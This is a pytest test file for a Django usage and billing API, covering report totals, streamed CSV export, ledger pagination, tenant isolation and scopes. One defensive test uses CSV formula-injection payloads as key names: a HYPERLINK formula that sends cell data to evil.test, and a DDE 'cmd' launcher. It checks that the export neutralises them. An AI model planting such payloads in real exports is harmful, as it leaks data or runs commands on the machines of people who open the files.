"""The usage and billing REST API: report sums, the streamed CSV, balance and ledger, parameter
errors in OpenAI's shape, and one organization never seeing another's data."""

from __future__ import annotations

import csv
import io
import math
from datetime import date, datetime, timedelta, timezone
from decimal import Decimal

import httpx
import pytest
from django.db.models import Sum

from billing import services
from billing.models import LedgerEntry, UsageRecord
from billing.selectors import EXPORT_COLUMNS
from tests.billing.conftest import make_catalog_model, make_key, make_organization, usage_event

pytestmark = pytest.mark.django_db

DAY = date(2025, 3, 10)


def at(day_offset: int, hour: int = 12, minute: int = 0) -> datetime:
    return datetime(DAY.year, DAY.month, DAY.day, hour, minute, tzinfo=timezone.utc) + timedelta(days=day_offset)


def bearer(plaintext: str) -> dict:
    return {"Authorization": f"Bearer {plaintext}"}


@pytest.fixture
def world(db):
    """Two organizations with usage on a few days, two models, two deployments, two keys."""
    from models_catalog.services import create_deployment

    tiny = make_catalog_model("tiny-llama")
    big = make_catalog_model("big-llama", price_output_per_mtok=Decimal("2.000000"), price_per_request=Decimal("0"))
    acme, globex = make_organization("Acme"), make_organization("Globex")
    key_a, raw_a = make_key(acme, name="prod")
    key_b, _ = make_key(acme, name="batch")
    other_key, raw_other = make_key(globex, name="globex")
    dep_tiny = create_deployment(organization=acme, model=tiny, name="acme-tiny")
    dep_big = create_deployment(organization=acme, model=big, name="acme-big")
    specs = [
        (0, 9, key_a, dep_tiny, 100, 10), (0, 9, key_a, dep_tiny, 300, 30), (0, 15, key_b, dep_big, 500, 50),
        (1, 0, key_a, dep_big, 700, 70), (1, 23, None, dep_tiny, 900, 90), (3, 6, key_b, dep_tiny, 1100, 110),
    ]
    endpoints = ["/v1/chat/completions", "/v1/embeddings", "/v1/batches", "/v1/chat/completions",
                 "/v1/embeddings", None]  # the last: a record from before endpoints were kept
    for i, (offset, hour, key, deployment, latency, completion) in enumerate(specs):
        event = usage_event(
            acme, api_key=key, deployment=deployment, model=deployment.model.slug, latency_ms=latency,
            prompt_tokens=1000 + i, cached_prompt_tokens=i * 10, completion_tokens=completion,
            finished_at=at(offset, hour, i),
        )
        services.record_usage(event={**event, **({"endpoint": endpoints[i]} if endpoints[i] else {})})
    # Outside the period, and another organization's usage on the same days.
    services.record_usage(event=usage_event(acme, finished_at=at(-1, 23, 59), model="tiny-llama"))
    services.record_usage(event=usage_event(acme, finished_at=at(4, 0, 0), model="tiny-llama"))
    for offset in range(4):
        services.record_usage(event=usage_event(globex, api_key=other_key, finished_at=at(offset), model="big-llama"))
    return {"acme": acme, "globex": globex, "raw_a": raw_a, "raw_other": raw_other, "key_a": key_a, "key_b": key_b}


PERIOD = {"start": "2025-03-10", "end": "2025-03-13"}


def in_period(organization):
    return UsageRecord.objects.filter(organization=organization, created_at__gte=at(0, 0),
                                      created_at__lt=at(4, 0))


def test_report_by_day_sums_equal_the_records(client, world):
    response = client.get("/v1/usage", {**PERIOD, "group_by": "day"}, headers=bearer(world["raw_a"]))
    assert response.status_code == 200, response.content
    body = response.json()
    assert [b["bucket"] for b in body["data"]] == ["2025-03-10", "2025-03-11", "2025-03-12", "2025-03-13"]
    assert [b["requests"] for b in body["data"]] == [3, 2, 0, 1]
    records = in_period(world["acme"])
    sums = records.aggregate(cost=Sum("cost"), prompt=Sum("prompt_tokens"), completion=Sum("completion_tokens"))
    totals = body["totals"]
    assert totals["requests"] == records.count() == 6
    assert Decimal(totals["cost"]) == sums["cost"]
    assert sum(Decimal(b["cost"]) for b in body["data"]) == sums["cost"]
    assert totals["prompt_tokens"] == sums["prompt"] and totals["completion_tokens"] == sums["completion"]
    assert totals["total_tokens"] == sums["prompt"] + sums["completion"]
    for bucket in body["data"]:
        day = date.fromisoformat(bucket["bucket"])
        day_records = records.filter(created_at__date=day)
        assert Decimal(bucket["cost"]) == (day_records.aggregate(c=Sum("cost"))["c"] or 0)
    # latency percentiles (percentile_disc: an actual observation)
    assert (totals["latency_ms_p50"], totals["latency_ms_p99"]) == (500, 1100)
    assert (body["data"][0]["latency_ms_p50"], body["data"][0]["latency_ms_p99"]) == (300, 500)
    assert body["data"][2]["latency_ms_p50"] is None and body["data"][2]["cost"] == "0.000000"


def test_report_by_hour_has_every_hour(client, world):
    body = client.get("/v1/usage", {"start": "2025-03-10", "end": "2025-03-11", "group_by": "hour"},
                      headers=bearer(world["raw_a"])).json()
    assert len(body["data"]) == 48
    assert body["data"][9] == {**body["data"][9], "bucket": "2025-03-10T09:00:00Z", "requests": 2}
    assert body["data"][24 + 23]["requests"] == 1
    assert sum(b["requests"] for b in body["data"]) == 5


@pytest.mark.parametrize(("group_by", "expected"), [
    ("model", {"big-llama": 2, "tiny-llama": 4}),
    ("deployment", {"acme-big": 2, "acme-tiny": 4}),
    ("endpoint", {"/v1/chat/completions": 2, "/v1/embeddings": 2, "/v1/batches": 1, "": 1}),
])
def test_report_by_model_deployment_and_endpoint(client, world, group_by, expected):
    body = client.get("/v1/usage", {**PERIOD, "group_by": group_by}, headers=bearer(world["raw_a"])).json()
    assert {b["bucket"]: b["requests"] for b in body["data"]} == expected
    field = {"model": "model", "deployment": "deployment_name", "endpoint": "endpoint"}[group_by]
    for bucket in body["data"]:
        cost = in_period(world["acme"]).filter(**{field: bucket["bucket"]}).aggregate(c=Sum("cost"))["c"]
        assert Decimal(bucket["cost"]) == cost


def test_report_by_api_key_names_the_keys(client, world):
    body = client.get("/v1/usage", {**PERIOD, "group_by": "api_key"}, headers=bearer(world["raw_a"])).json()
    by_key = {(b["api_key"] or {}).get("name"): b["requests"] for b in body["data"]}
    assert by_key == {"prod": 3, "batch": 2, None: 1}
    assert body["data"][-1]["bucket"] is None  # the dashboard's own requests (no key) last


@pytest.mark.parametrize(("params", "param"), [
    ({"start": "2025-03-10", "end": "2025-03-09"}, "end"),
    ({"start": "2024-01-01", "end": "2025-01-01"}, "end"),  # 367 days
    ({"start": "2025-02-30", "end": "2025-03-01"}, "start"),
    ({"start": "10/03/2025"}, "start"),
    ({"start": "2025-03-10", "end": "soon"}, "end"),
    ({"start": "2025-W11-1", "end": "2025-03-13"}, "start"),  # an ISO week date, also 10 characters
    ({"start": "2025-03-10", "end": "２０２５-03-13"}, "end"),  # digits, but not ASCII ones
    ({"group_by": "week"}, "group_by"),
    ({"start": "9999-12-31", "end": "9999-12-31"}, "end"),  # its day after overflowed: a 500
    ({"end": "0001-01-05"}, "end"),  # and 30 days before it
])
def test_bad_parameters_are_400_naming_the_param(client, world, params, param):
    for path in ("/v1/usage", "/v1/usage/export.csv"):
        if path.endswith(".csv") and param == "group_by":
            continue
        response = client.get(path, params, headers=bearer(world["raw_a"]))
        assert response.status_code == 400, response.content
        error = response.json()["error"]
        assert error["param"] == param and error["type"] == "invalid_request_error" and error["message"]


def test_a_full_leap_year_is_allowed(client, world):
    response = client.get("/v1/usage", {"start": "2024-01-01", "end": "2024-12-31"}, headers=bearer(world["raw_a"]))
    assert response.status_code == 200 and len(response.json()["data"]) == 366


def _parse_csv(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


def _assert_round_trip(rows: list[dict], organization) -> None:
    records = {r.request_id: r for r in in_period(organization)}
    assert {row["request_id"] for row in rows} == set(records)
    for row in rows:
        record = records[row["request_id"]]
        assert datetime.fromisoformat(row["created_at"]) == record.created_at
        assert Decimal(row["cost"]) == record.cost
        assert Decimal(row["price_output_per_mtok"]) == record.price_output_per_mtok
        assert int(row["prompt_tokens"]) == record.prompt_tokens
        assert int(row["cached_prompt_tokens"]) == record.cached_prompt_tokens
        assert row["deployment"] == record.deployment_name and row["model"] == record.model
        assert row["api_key_id"] == (str(record.api_key_id) if record.api_key_id else "")
        assert row["api_key_name"] == (record.api_key.name if record.api_key_id else "")
    assert sum(Decimal(row["cost"]) for row in rows) == sum(r.cost for r in records.values())


def test_csv_export_round_trips(client, world):
    response = client.get("/v1/usage/export.csv", PERIOD, headers=bearer(world["raw_a"]))
    assert response.status_code == 200
    assert response.streaming and response["Content-Type"].startswith("text/csv")
    assert 'filename="usage-2025-03-10-2025-03-13.csv"' in response["Content-Disposition"]
    text = b"".join(response.streaming_content).decode()
    assert text.splitlines()[0].split(",") == list(EXPORT_COLUMNS)
    rows = _parse_csv(text)
    assert [row["created_at"] for row in rows] == sorted(row["created_at"] for row in rows)
    _assert_round_trip(rows, world["acme"])
    assert "E-" not in text  # decimals as plain numbers (a zero price was "0E-10")


@pytest.mark.parametrize("name", ['=HYPERLINK("http://evil.test/?"&A1,"x")', "+cmd|' /C calc'!A0", "@SUM(1+1)",
                                  "-2+3", "\tfoo"])
def test_a_key_name_a_spreadsheet_would_run_as_a_formula_is_exported_as_text(client, world, name):
    """Any member names keys, and whoever opens the export in a spreadsheet must run nothing."""
    from accounts.models import ApiKey

    ApiKey.objects.filter(pk=world["key_b"].pk).update(name=name)
    response = client.get("/v1/usage/export.csv", PERIOD, headers=bearer(world["raw_a"]))
    names = {row["api_key_name"] for row in _parse_csv(b"".join(response.streaming_content).decode())}
    assert names == {"prod", "", "'" + name}


def test_csv_export_fetches_rows_only_while_streaming(client, world):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    response = client.get("/v1/usage/export.csv", PERIOD, headers=bearer(world["raw_a"]))
    lines = iter(response.streaming_content)
    with CaptureQueriesContext(connection) as queries:
        assert next(lines).decode().startswith("request_id,")
    assert len(queries) == 0  # building the response read no record
    with CaptureQueriesContext(connection) as queries:
        rest = list(lines)
    assert len(rest) == 6 and any("billing_usagerecord" in q["sql"] for q in queries)


def test_csv_export_under_asgi_is_an_async_stream_of_chunks(async_client, world, monkeypatch):
    """Under ASGI a synchronous iterator would be read whole before the first byte: the export
    hands Django an asynchronous one that pulls EXPORT_CHUNK_ROWS lines at a time."""
    from asgiref.sync import async_to_sync

    from billing import api

    monkeypatch.setattr(api, "EXPORT_CHUNK_ROWS", 2)

    async def fetch():
        response = await async_client.get("/v1/usage/export.csv", PERIOD, headers=bearer(world["raw_a"]))
        assert response.is_async
        return [chunk async for chunk in response.streaming_content]

    chunks = async_to_sync(fetch)()
    assert len(chunks) == 4  # the header and 6 rows, two lines a chunk
    _assert_round_trip(_parse_csv(b"".join(chunks).decode()), world["acme"])


@pytest.mark.django_db(transaction=True)
def test_csv_export_streams_through_the_asgi_server(asgi_server):
    make_catalog_model()
    organization = make_organization("Streamer")
    _, raw = make_key(organization, scopes=["read_usage"])
    start = datetime(2025, 1, 1, tzinfo=timezone.utc)
    UsageRecord.objects.bulk_create([  # more than two chunks of 2000 rows
        UsageRecord(
            request_id=f"bulk-{i}", organization=organization, model="tiny-llama", prompt_tokens=i,
            completion_tokens=1, status="completed", price_input_per_mtok=Decimal("1"),
            price_cached_input_per_mtok=Decimal("0"), price_output_per_mtok=Decimal("0"),
            price_per_request=Decimal("0"), cost=Decimal(i) / 1000000, created_at=start + timedelta(seconds=i),
        )
        for i in range(4500)
    ])
    with httpx.stream("GET", f"{asgi_server}/v1/usage/export.csv", params={"start": "2025-01-01", "end": "2025-01-31"},
                      headers=bearer(raw), timeout=60) as response:
        assert response.status_code == 200
        chunks = [chunk for chunk in response.iter_text()]
    rows = _parse_csv("".join(chunks))
    assert len(rows) == 4500 and rows[0]["request_id"] == "bulk-0" and rows[-1]["request_id"] == "bulk-4499"
    assert sum(Decimal(row["cost"]) for row in rows) == Decimal(sum(range(4500))) / 1000000


def test_balance_and_ledger(client, world):
    acme = world["acme"]
    body = client.get("/v1/billing/balance", headers=bearer(world["raw_a"])).json()
    spent = UsageRecord.objects.filter(organization=acme).aggregate(c=Sum("cost"))["c"]
    assert Decimal(body["balance"]) == Decimal("5") - spent and body["currency"] == "usd"
    assert body["monthly_limit"] is None

    ledger = client.get("/v1/billing/ledger", {"limit": 3}, headers=bearer(world["raw_a"])).json()
    assert ledger["object"] == "list" and ledger["has_more"] is True and len(ledger["data"]) == 3
    seen = list(ledger["data"])
    while ledger["has_more"]:
        ledger = client.get("/v1/billing/ledger", {"limit": 3, "after": ledger["last_id"]},
                            headers=bearer(world["raw_a"])).json()
        seen += ledger["data"]
    assert len(seen) == LedgerEntry.objects.filter(organization=acme).count() == 9
    assert [e["id"] for e in seen] == sorted((e["id"] for e in seen), reverse=True)
    assert sum(Decimal(e["amount"]) for e in seen) == Decimal(body["balance"])
    assert seen[-1]["kind"] == "signup_credit" and seen[-1]["amount"] == "5.000000"
    for bad in ({"limit": 0}, {"limit": 101}, {"limit": "x"}, {"after": "-3"}, {"limit": "²"}, {"after": "9" * 40}):
        response = client.get("/v1/billing/ledger", bad, headers=bearer(world["raw_a"]))
        assert response.status_code == 400 and response.json()["error"]["param"] in bad


def test_organizations_never_see_each_other(client, world):
    """Globex's key on every endpoint: only Globex's figures, never Acme's."""
    raw = world["raw_other"]
    globex = world["globex"]
    for group_by in ("day", "model", "deployment", "api_key"):
        body = client.get("/v1/usage", {**PERIOD, "group_by": group_by}, headers=bearer(raw)).json()
        assert body["totals"]["requests"] == 4
        assert Decimal(body["totals"]["cost"]) == in_period(globex).aggregate(c=Sum("cost"))["c"]
    csv_text = b"".join(client.get("/v1/usage/export.csv", PERIOD, headers=bearer(raw)).streaming_content).decode()
    rows = _parse_csv(csv_text)
    assert len(rows) == 4 and all(row["model"] == "big-llama" for row in rows)
    assert not set(row["request_id"] for row in rows) & set(in_period(world["acme"]).values_list("request_id", flat=True))
    balance = client.get("/v1/billing/balance", headers=bearer(raw)).json()
    assert Decimal(balance["balance"]) == Decimal("5") - UsageRecord.objects.filter(organization=globex).aggregate(
        c=Sum("cost"))["c"]
    ledger = client.get("/v1/billing/ledger", {"limit": 100}, headers=bearer(raw)).json()
    assert {e["id"] for e in ledger["data"]} == set(LedgerEntry.objects.filter(organization=globex).values_list("id", flat=True))
    # A cursor from another organization's ledger reveals nothing either.
    acme_newest = LedgerEntry.objects.filter(organization=world["acme"]).order_by("-id").first().pk
    page = client.get("/v1/billing/ledger", {"after": acme_newest + 1}, headers=bearer(raw)).json()
    assert all(e["id"] in {x["id"] for x in ledger["data"]} for e in page["data"])


def test_authentication_and_scopes(client, world):
    response = client.get("/v1/usage")
    assert response.status_code == 401
    assert response.json()["error"]["type"] == "invalid_request_error"
    response = client.get("/v1/billing/balance", headers=bearer("sk-nottherightshape"))
    assert response.status_code == 401 and response.json()["error"]["code"] == "invalid_api_key"
    _, inference_only = make_key(world["acme"], scopes=["inference"], name="inference only")
    for path in ("/v1/usage", "/v1/usage/export.csv", "/v1/billing/balance", "/v1/billing/ledger"):
        response = client.get(path, headers=bearer(inference_only))
        assert response.status_code == 403, path
        assert response.json()["error"]["code"] == "missing_scope"


def test_the_dashboard_session_sees_its_organization(client, world):
    user = world["acme"].memberships.get().user
    client.force_login(user)
    body = client.get("/v1/usage", {**PERIOD, "group_by": "model"}).json()
    assert body["totals"]["requests"] == 6
    page = client.get("/billing/")
    assert page.status_code == 200 and b"Credit balance" in page.content


def test_topups_need_the_manage_scope(client, world):
    response = client.post("/v1/billing/topups", {"amount": "20.00"}, content_type="application/json",
                           headers=bearer(world["raw_a"]))
    assert response.status_code == 403


def test_topup_api_validates_the_amount(client, world, settings):
    _, manager = make_key(world["acme"], scopes=["manage"], name="manager")
    response = client.post("/v1/billing/topups", {"amount": "1.00"}, content_type="application/json",
                           headers=bearer(manager))
    assert response.status_code == 400 and response.json()["error"]["param"] == "amount"
    response = client.post("/v1/billing/topups", {}, content_type="application/json", headers=bearer(manager))
    assert response.status_code == 400 and response.json()["error"]["param"] == "amount"
    for huge in ("1e30", "9" * 40 + ".00"):  # more digits than Decimal's context: quantize raised, a 500
        response = client.post("/v1/billing/topups", {"amount": huge}, content_type="application/json",
                               headers=bearer(manager))
        assert response.status_code == 400 and response.json()["error"]["param"] == "amount"


def test_percentile_definition_matches_the_database(world):
    from billing.selectors import percentile_disc

    values = sorted(in_period(world["acme"]).values_list("latency_ms", flat=True))
    assert percentile_disc(values, 0.5) == values[math.ceil(0.5 * len(values)) - 1] == 500
